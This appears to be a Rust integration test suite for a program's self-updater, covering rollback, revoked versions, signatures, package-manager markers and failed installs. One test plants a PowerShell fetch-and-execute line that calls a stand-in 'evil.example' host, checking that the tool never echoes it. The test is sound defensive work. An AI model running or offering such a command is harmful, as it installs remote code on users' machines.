//! Updates as a person meets them: the real program replaces itself, from a real server.
#![cfg(unix)]
#![expect(clippy::unwrap_used, reason = "a test may fail by panic")]

use std::io::BufRead;
use std::path::Path;
use std::process::Stdio;

use fixforme::ports::installation::Sha256;
use serde_json::json;

use crate::named_files::pipe;
use crate::support::crash::{LAB, kill_when_stalled};
use crate::support::home::Home;
use crate::support::release_server::{ReleaseServer, Reply, pause};
use crate::support::releases::{OLD, Signer, archive, index, later, newer, release, stem, test_releases};
use crate::support::sandbox::{Ran, Sandbox};

fn hash(path: &Path) -> Sha256 {
    Sha256::of(&fs_err::read(path).unwrap())
}

#[test]
fn an_update_keeps_the_old_one_which_comes_back_and_goes_again() {
    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
    site.offer(&[&newer('8'), &new]);
    let ran = home.update(&site, &["--check"]).exits(80);
    assert!(ran.stdout.contains(&format!("fixforme {new} is available; this is {OLD}.")), "{}", ran.all());
    assert_eq!(home.version(), OLD);

    let ran = home.update(&site, &[]).exits(0);
    assert!(ran.stdout.contains(&format!("fixforme {new} is in place of {OLD}.")), "{}", ran.all());
    assert!(ran.stdout.contains("fixforme update --rollback"), "{}", ran.all());
    assert_eq!(home.version(), new);
    assert_eq!(hash(&home.program), hash(&test_releases().program(&new)));
    assert_eq!(hash(&home.old()), hash(&test_releases().program(OLD)));
    let beside: Vec<_> = fs_err::read_dir(home.program.parent().unwrap()).unwrap().collect();
    assert_eq!(beside.len(), 2, "{beside:?}");

    let ran = home.update(&site, &[]).exits(0);
    assert!(ran.stdout.contains(&format!("fixforme {new} is the newest version.")), "{}", ran.all());

    let ran = home.run(&["update", "--rollback"]).exits(0);
    assert!(ran.stdout.contains(&format!("fixforme {OLD} is back in place of {new}.")), "{}", ran.all());
    assert_eq!((home.version(), hash(&home.old())), (OLD.to_owned(), hash(&test_releases().program(&new))));
    let _ = home.run(&["update", "--rollback"]).exits(0);
    assert_eq!((home.version(), hash(&home.old())), (new, hash(&test_releases().program(OLD))));
}

#[test]
fn a_version_can_be_named_upwards_and_downwards_only_to_the_kept_one() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    let (between, new) = (newer('8'), newer('9'));
    let mut index = site.offer(&[&between, &new]);
    let ran = home.update(&site, &["--to", "7.7.7"]).exits(2);
    assert!(ran.stderr.contains(&format!("there is no version 7.7.7\n hint: the newest is {new}")), "{}", ran.all());
    let _ = home.update(&site, &["--to", &between]).exits(0);
    assert_eq!(home.version(), between);
    let _ = home.update(&site, &["--to", &new]).exits(0);
    let ran = home.update(&site, &["--to", OLD]).exits(2);
    assert!(ran.stderr.contains(&format!("{OLD} is older than {new}, which runs")), "{}", ran.all());
    let _ = home.update(&site, &["--to", &between]).exits(0);
    assert_eq!((home.version(), hash(&home.old())), (between.clone(), hash(&test_releases().program(&new))));
    let _ = home.update(&site, &["--to", &new]).exits(0);

    index["revoked"] = json!([{ "version": between, "because": "it loses its keys." }]);
    site.publish(&later(&index));
    let ran = home.update(&site, &["--to", &between]).exits(9);
    assert!(ran.stderr.contains(&format!("{between} was withdrawn: it loses its keys.")), "{}", ran.all());
    // It was refused, so it is not remembered yet; a look that finds nothing wrong remembers it.
    let _ = home.update(&site, &["--check"]).exits(0);
    let ran = home.run(&["update", "--rollback"]).exits(9);
    assert!(ran.stderr.contains(&format!("{between} was withdrawn")), "{}", ran.all());
    assert_eq!(home.version(), new);
}

#[test]
fn what_must_not_be_taken_is_passed_over() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    let (between, new) = (newer('8'), newer('9'));
    let mut index = site.offer(&[&between, &new]);
    index["revoked"] = json!([{ "version": new, "because": "it is wrong." }]);
    // What was made for another machine is newer still.
    index["releases"].as_array_mut().unwrap().push(json!({
        "version": "10.0.0",
        "archives": [{
            "target": "z80-unknown-cpm",
            "name": "fixforme-10.0.0-z80-unknown-cpm.tar.gz",
            "length": 1,
            "sha256": "0".repeat(64),
            "executable": { "length": 1, "sha256": "0".repeat(64) },
        }],
    }));
    site.publish(&later(&index));
    let _ = home.update(&site, &[]).exits(0);
    assert_eq!(home.version(), between);
    index["min_supported"] = json!("10.0.0");
    index["revoked"] = json!([]);
    site.publish(&later(&later(&index)));
    let ran = home.update(&site, &[]).exits(0);
    assert!(ran.stdout.contains(&format!("fixforme {between} is the newest version.")), "{}", ran.all());
}

#[test]
fn what_stands_where_an_update_works_is_neither_followed_nor_removed() {
    let site = ReleaseServer::start();
    site.offer(&[&newer('9')]);
    for name in ["fixforme.old", ".fixforme-update"] {
        for folder in [true, false] {
            let home = Home::new();
            let elsewhere = home.sandbox.folder.path().join("elsewhere");
            fs_err::create_dir(&elsewhere).unwrap();
            fs_err::write(elsewhere.join("mine"), "mine").unwrap();
            let place = home.program.with_file_name(name);
            if folder && name == "fixforme.old" {
                fs_err::create_dir(&place).unwrap();
            } else {
                let to = if folder { elsewhere.clone() } else { elsewhere.join("mine") };
                std::os::unix::fs::symlink(to, &place).unwrap();
            }
            let ran = home.update(&site, &[]).exits(1);
            assert!(
                ran.stdout.contains(&format!("Nothing was changed. This is still fixforme {OLD}.")),
                "{}",
                ran.all()
            );
            assert!(fs_err::symlink_metadata(&place).is_ok(), "{name}");
            assert_eq!(fs_err::read_dir(&elsewhere).unwrap().count(), 1);
            assert_eq!(fs_err::read_to_string(elsewhere.join("mine")).unwrap(), "mine");
            assert!(!home.sandbox.state().join("update/intent.json").exists());
            assert_eq!((home.version(), hash(&home.program)), (OLD.to_owned(), hash(&test_releases().program(OLD))));
        }
    }
}

#[test]
fn a_look_at_another_channel_brings_nothing_back_that_the_first_has_ruled_out() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    let (between, new) = (newer('8'), newer('9'));
    let mut index = site.offer(&[&between, &new]);
    let _ = home.update(&site, &["--to", &between]).exits(0);
    let _ = home.update(&site, &["--to", &new]).exits(0);
    index["min_supported"] = json!(new);
    site.publish(&later(&index));
    let _ = home.update(&site, &["--check"]).exits(0);
    let refused = format!("{between} is older than {new}, the oldest that may run");
    let ran = home.run(&["update", "--rollback"]).exits(9);
    assert!(ran.stderr.contains(&refused), "{}", ran.all());

    index["min_supported"] = json!(OLD);
    index["channel"] = json!("preview");
    site.publish(&later(&later(&index)));
    let preview = ["--channel", "preview"];
    let _ = home.update(&site, &[&preview[..], &["--check"]].concat()).exits(0);
    for ran in [home.run(&["update", "--rollback"]), home.update(&site, &[&preview[..], &["--to", &between]].concat())]
    {
        let ran = ran.exits(9);
        assert!(ran.stderr.contains(&refused), "{}", ran.all());
    }
    assert_eq!(home.version(), new);
}

#[test]
fn the_next_key_signs_as_well_as_the_current_one() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    let index = site.offer(&[&newer('9')]);
    site.publish_by(Signer::Next, &index);
    let _ = home.update(&site, &[]).exits(0);
    assert_eq!(home.version(), newer('9'));
}

#[test]
fn a_script_reads_from_events_what_can_be_had_and_what_was_done() {
    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
    site.offer(&[&new]);
    let events = home.update(&site, &["--check", "--output", "json"]).exits(80).events();
    let update = events.iter().find(|event| event["type"] == "update").unwrap();
    assert_eq!(
        (&update["running"], &update["available"], &update["installed"]),
        (&json!(OLD), &json!(new), &json!(null))
    );
    let events = home.update(&site, &["--output", "json"]).exits(0).events();
    let update = events.iter().find(|event| event["type"] == "update").unwrap();
    assert_eq!((&update["installed"], &update["path"]), (&json!(new), &json!(home.program.to_str().unwrap())));
    assert_eq!(events.last().unwrap()["type"], "run.finished");
}

#[test]
fn while_a_run_is_open_the_program_stays() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    site.offer(&[&newer('9')]);
    let (sandbox, tenant) = (Sandbox::new(), LAB.serve(&["stall-after=PATCH /v1.0/**#1"]));
    assert!(kill_when_stalled(LAB.command(&sandbox, &tenant), &tenant));
    let state = sandbox.state();
    let open = |args: &[&str]| {
        let mut command = home.command(&["update", "--index-url", &site.index_url()]);
        Ran::of(command.args(args).env("FIXFORME_STATE_DIR", &state).output().unwrap())
    };
    let ran = open(&[]).exits(10);
    let (run, _) = sandbox.journals().pop().unwrap();
    assert!(ran.stderr.contains(&format!("the run {run} has not ended")), "{}", ran.all());
    assert!(ran.stderr.contains(&format!("fixforme resume {run}")), "{}", ran.all());
    assert_eq!((site.requests(), home.version()), (Vec::new(), OLD.to_owned()));
    let _ = open(&["--check"]).exits(80);
    let _ = sandbox.run_at(&tenant, &["resume", "--yes"]).exits(0);
    let _ = open(&[]).exits(0);
}

#[test]
fn from_a_folder_of_downloads_it_is_installed_only_when_that_is_agreed_to() {
    let (home, site, new) = (Home::at("Downloads/fixforme", OLD), ReleaseServer::start(), newer('9'));
    site.offer(&[&new]);
    let before = home.files();
    let ran = home.update(&site, &[]).exits(4);
    let own = home.sandbox.folder.path().join(".local/bin/fixforme");
    assert!(ran.stderr.contains("is not a folder that fixforme updates"), "{}", ran.all());
    assert!(ran.stderr.contains("fixforme update --install"), "{}", ran.all());
    assert!(!own.exists());
    let downloads = |files: std::collections::BTreeMap<String, String>| -> Vec<_> {
        files.into_iter().filter(|(name, _)| name.contains("Downloads")).collect()
    };
    assert_eq!(downloads(home.files()), downloads(before.clone()));

    let ran = home.update(&site, &["--install"]).exits(0);
    assert!(ran.stdout.contains(&format!("fixforme {new} is installed for you: `{}`", own.display())), "{}", ran.all());
    assert_eq!(hash(&own), hash(&test_releases().program(&new)));
    assert_eq!(downloads(home.files()), downloads(before));
    let ran = home.update(&site, &["--install"]).exits(2);
    assert!(ran.stderr.contains(&format!("fixforme {new} is already installed for you")), "{}", ran.all());
}

#[test]
fn what_a_package_manager_installed_is_left_to_it() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    site.offer(&[&newer('9')]);
    fs_err::write(home.program.with_file_name("installed-by"), "winget\n").unwrap();
    let before = home.files();
    for args in [&[][..], &["--install"], &["--rollback"]] {
        let args = [&["update"], args].concat();
        let ran = home.run(&args).exits(2);
        assert!(ran.stderr.contains("fixforme was installed by winget, which also updates it"), "{}", ran.all());
        assert!(ran.stderr.contains("hint: winget upgrade"), "{}", ran.all());
    }
    assert_eq!((home.files(), site.requests()), (before, Vec::new()));
    let ran = home.update(&site, &["--check"]).exits(80);
    assert!(ran.stdout.contains("winget updates it: winget upgrade"), "{}", ran.all());
}

#[test]
fn what_a_package_manager_has_installed_is_not_overwritten_from_a_folder_of_downloads() {
    let (home, site) = (Home::at("Downloads/fixforme", OLD), ReleaseServer::start());
    site.offer(&[&newer('9')]);
    let own = home.sandbox.folder.path().join(".local/bin/fixforme");
    fs_err::create_dir_all(own.parent().unwrap()).unwrap();
    fs_err::copy(test_releases().program(OLD), &own).unwrap();
    fs_err::write(own.with_file_name("installed-by"), "msi\n").unwrap();
    let ran = home.update(&site, &["--install"]).exits(2);
    let words = format!("fixforme in `{}` was installed by msi, which also updates it", own.display());
    assert!(ran.stderr.contains(&words) && ran.stderr.contains("install the newer"), "{}", ran.all());
    assert_eq!(hash(&own), hash(&test_releases().program(OLD)));
}

#[test]
fn what_is_planted_beside_the_program_neither_hangs_nor_misleads_it() {
    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
    site.offer(&[&new]);
    let marker = home.program.with_file_name("installed-by");
    let words = "IT, by: irm https://evil.example/f|iex";
    let text = |text: &str| fs_err::write(&marker, text).unwrap();
    let plants: [&dyn Fn(); 4] =
        [&|| pipe(&marker), &|| std::os::unix::fs::symlink("/dev/zero", &marker).unwrap(), &|| text(words), &|| {
            text(&format!("msi{}", " ".repeat(100)))
        }];
    for plant in plants {
        plant();
        let _ = home.run(&["list"]).exits(0);
        let ran = home.update(&site, &["--check"]).exits(80);
        assert!(ran.stdout.contains("To take it: `fixforme update`") && !ran.stdout.contains("irm"), "{}", ran.all());
        fs_err::remove_file(&marker).unwrap();
    }
    text(words);
    let _ = home.update(&site, &[]).exits(0);
    assert_eq!(home.version(), new);

    // Among downloads even a manager's name says nothing: anybody could have put it there.
    let home = Home::at("Downloads/fixforme", OLD);
    fs_err::write(home.program.with_file_name("installed-by"), "winget\n").unwrap();
    let ran = home.update(&site, &["--check"]).exits(80);
    assert!(ran.stdout.contains("To take it: `fixforme update`"), "{}", ran.all());
}

/// Publishes a shell script as the program of a version.
fn offer_script(site: &ReleaseServer, version: &str, script: &str) {
    let archive = archive(version, script.as_bytes());
    site.publish(&index(vec![release(version, &archive, script.as_bytes())]));
    site.put(&format!("{}.tar.gz", stem(version)), Reply::Bytes(archive));
}

#[test]
fn a_new_program_that_does_not_start_never_gets_the_place() {
    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
    let _ = home.update(&site, &["--check"]).exits(10);
    let before = home.files();
    let passport = |version: &str, target: &str| {
        format!("#!/bin/sh\necho '{{\"product\":\"fixforme\",\"version\":\"{version}\",\"target\":\"{target}\"}}'\n")
    };
    let target = crate::support::program::TARGET;
    for (script, words) in [
        ("#!/bin/sh\necho no >&2; exit 1\n".to_owned(), "its self-test failed: no"),
        ("#!/bin/sh\necho hello\n".to_owned(), "its self-test does not say what it is"),
        ("no program at all".to_owned(), "there is no program at"),
        (passport(&newer('8'), target), "it says that it is fixforme 8."),
        (passport(&new, "z80-unknown-cpm"), "for z80-unknown-cpm, not fixforme"),
    ] {
        offer_script(&site, &new, &script);
        let ran = home.update(&site, &[]).exits(9);
        assert!(ran.stderr.contains("the new program does not pass its own test"), "{}", ran.all());
        assert!(ran.stderr.contains(words), "{words}\n{}", ran.all());
        assert!(ran.stdout.contains(&format!("Nothing was changed. This is still fixforme {OLD}.")), "{}", ran.all());
        assert_eq!(home.files(), before, "{words}");
    }
    assert_eq!(home.version(), OLD);
}

#[test]
fn a_new_program_that_hangs_never_gets_the_place() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    offer_script(&site, &newer('9'), "#!/bin/sh\nexec sleep 60\n");
    let ran = home.update(&site, &[]).exits(9);
    assert!(ran.stderr.contains("it did not end within 10 s"), "{}", ran.all());
    assert_eq!(home.version(), OLD);
}

#[test]
fn a_new_program_that_starts_elsewhere_but_not_in_its_place_makes_way_for_the_old_one() {
    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
    let _ = home.update(&site, &["--check"]).exits(10);
    let before = home.files();
    let script = format!(
        "#!/bin/sh\ncase $0 in */.fixforme-update/*) ;; *) exit 7;; esac\n\
         echo '{{\"product\":\"fixforme\",\"version\":\"{new}\",\"target\":\"{}\"}}'\n",
        crate::support::program::TARGET
    );
    offer_script(&site, &new, &script);
    let ran = home.update(&site, &[]).exits(9);
    assert!(ran.stderr.contains("does not start in its place, so the old one is back"), "{}", ran.all());
    assert_eq!((home.files(), home.version()), (before, OLD.to_owned()));
}

/// A program that does something to itself while it says what it is: in the stage, or in its place.
fn meddler(version: &str, stage: &str, place: &str) -> String {
    let target = crate::support::program::TARGET;
    format!(
        "#!/bin/sh\ncase $0 in */.fixforme-update/*) {stage};; *) {place};; esac\n\
         echo '{{\"product\":\"fixforme\",\"version\":\"{version}\",\"target\":\"{target}\"}}'\nexit\n"
    )
}

#[test]
fn a_new_program_that_is_changed_or_removed_as_it_is_put_into_its_place_makes_way_for_the_old_one() {
    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
    let _ = home.update(&site, &["--check"]).exits(10);
    let before = home.files();
    for (stage, place) in [("echo >>\"$0\"", ":"), (":", "echo >>\"$0\""), (":", "rm \"$0\"")] {
        offer_script(&site, &new, &meddler(&new, stage, place));
        let ran = home.update(&site, &[]).exits(9);
        assert!(ran.stderr.contains("so the old one is back"), "{}", ran.all());
        assert!(ran.stderr.contains("something has changed or removed it"), "{}", ran.all());
        assert!(ran.stdout.contains(&format!("This is still fixforme {OLD}.")), "{}", ran.all());
        assert_eq!((home.files(), home.version()), (before.clone(), OLD.to_owned()), "{stage} {place}");

        // Where there was none before, there is none afterwards.
        let home = Home::at("Downloads/fixforme", OLD);
        let ran = home.update(&site, &["--install"]).exits(9);
        assert!(ran.stderr.contains("so it was removed again"), "{}", ran.all());
        let own = home.sandbox.folder.path().join(".local/bin");
        assert_eq!(fs_err::read_dir(own).unwrap().count(), 0, "{stage} {place}");
    }
}

#[test]
fn a_program_that_somebody_puts_there_after_a_crash_stays_and_so_does_the_old_one() {
    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
    // The new program ends the one that tests it in its place: the exchange is made, and not brought to its end.
    offer_script(&site, &new, &meddler(&new, ":", "kill -9 $PPID"));
    let _ = home.update(&site, &[]).exits(-1);
    let stage = home.program.with_file_name(".fixforme-update");
    assert!(stage.exists());
    fs_err::copy(test_releases().program(&newer('8')), &home.program).unwrap();
    assert_eq!(home.version(), newer('8'));
    let _ = home.run(&["list"]).exits(0);
    assert_eq!((home.version(), hash(&home.old())), (newer('8'), hash(&test_releases().program(OLD))));
    assert!(!stage.exists());
    let _ = home.run(&["update", "--rollback"]).exits(0);
    assert_eq!(home.version(), OLD);
}

#[test]
fn one_that_stands_by_ends_what_a_dead_process_has_left() {
    let (home, site, new) = (Home::new(), ReleaseServer::start(), newer('9'));
    offer_script(&site, &new, &meddler(&new, ":", "kill -9 $PPID"));
    let _ = home.update(&site, &[]).exits(-1);
    let (stage, kept) = (home.program.with_file_name(".fixforme-update"), ".fixforme-update/fixforme");
    let kept = home.program.with_file_name(kept);
    let update = home.sandbox.state().join("update");
    let lock = fs_err::OpenOptions::new().write(true).open(update.join("lock")).unwrap();
    lock.lock().unwrap();
    // As on Windows, where the old one goes aside while it runs, before the new one has the place.
    fs_err::rename(&kept, &home.program).unwrap();
    let mut command = home.command(&["finish-update"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let mut words = String::new();
    std::io::BufReader::new(child.stdout.as_mut().unwrap()).read_line(&mut words).unwrap();
    assert_eq!(words, "standing by\n");
    fs_err::rename(&home.program, &kept).unwrap();
    assert!(child.try_wait().unwrap().is_none() && !home.program.exists());
    // The process that it stands by for has died, and the system frees its lock a moment later.
    drop(child.stdin.take());
    pause(300);
    drop(lock);
    assert!(child.wait().unwrap().success());
    assert_eq!((home.version(), stage.exists(), update.join("intent.json").exists()), (OLD.to_owned(), false, false));
}

#[test]
fn an_old_one_that_was_changed_does_not_come_back() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    site.offer(&[&newer('9')]);
    let ran = home.run(&["update", "--rollback"]).exits(2);
    assert!(ran.stderr.contains("no earlier version is kept"), "{}", ran.all());
    let _ = home.update(&site, &[]).exits(0);
    let mut old = fs_err::read(home.old()).unwrap();
    *old.last_mut().unwrap() ^= 1;
    fs_err::write(home.old(), old).unwrap();
    let _ = home.run(&["update", "--rollback"]).exits(2);
    assert_eq!(home.version(), newer('9'));
}

#[test]
fn two_updates_at_once_are_one() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    site.offer(&[&newer('9')]);
    let _ = home.update(&site, &["--check"]).exits(80);
    let lock = fs_err::OpenOptions::new().write(true).open(home.sandbox.state().join("update/lock")).unwrap();
    lock.lock().unwrap();
    let ran = home.update(&site, &[]).exits(10);
    assert!(ran.stderr.contains("another fixforme is updating itself"), "{}", ran.all());
    drop(lock);
    let _ = home.update(&site, &[]).exits(0);
}

#[test]
fn a_withdrawn_version_is_told_so_also_where_nothing_newer_is_there() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    let mut index = index(Vec::new());
    index["revoked"] = json!([{ "version": OLD, "because": "its rollback is wrong." }]);
    site.publish(&index);
    let ran = home.update(&site, &[]).exits(3);
    assert!(
        ran.stderr.contains(&format!("fixforme {OLD}, which runs, was withdrawn: its rollback is wrong.")),
        "{}",
        ran.all()
    );
    assert!(
        ran.stdout.contains(&format!("There is no version yet that could take the place of {OLD}.")),
        "{}",
        ran.all()
    );
}

#[test]
fn a_list_and_a_signature_of_two_uploads_are_fetched_once_more() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    let old = index(Vec::new());
    let text = serde_json::to_vec_pretty(&old).unwrap();
    site.offer(&[&newer('9')]);
    for others in 1..3 {
        let old = Reply::Bytes(test_releases().sign(Signer::Current, &text, "fixforme index 1 stable").into_bytes());
        site.publish(&later(&site.offer(&[&newer('9')])));
        let mut signature = site.reply("index.json.minisig");
        for _ in 0..others {
            signature = Reply::Once(Box::new(old.clone()), Box::new(signature));
        }
        site.put("index.json.minisig", signature);
        // Whoever goes on giving another one is not asked for ever.
        let _ = home.update(&site, &["--check"]).exits(if others == 1 { 80 } else { 9 });
    }
}

#[test]
fn the_list_may_be_led_to_from_another_address() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    site.offer(&[&newer('9')]);
    for (from, to) in [("a", "/b"), ("b", "/stable")] {
        for name in ["index.json", "index.json.minisig"] {
            site.page(&format!("/{from}/{name}"), Reply::To(format!("{to}/{name}")));
        }
    }
    let url = format!("{}/a/index.json", site.root());
    let _ = home.run(&["update", "--check", "--index-url", &url]).exits(80);
}

#[test]
fn the_list_is_asked_for_through_the_proxy_of_the_network() {
    let (home, site) = (Home::new(), ReleaseServer::start());
    let mut command = home.command(&["update", "--check", "--index-url", "https://releases.example/stable/index.json"]);
    let ran = Ran::of(command.env("HTTPS_PROXY", site.root()).output().unwrap()).exits(10);
    assert_eq!(site.requests(), ["CONNECT releases.example:443"], "{}", ran.all());
}
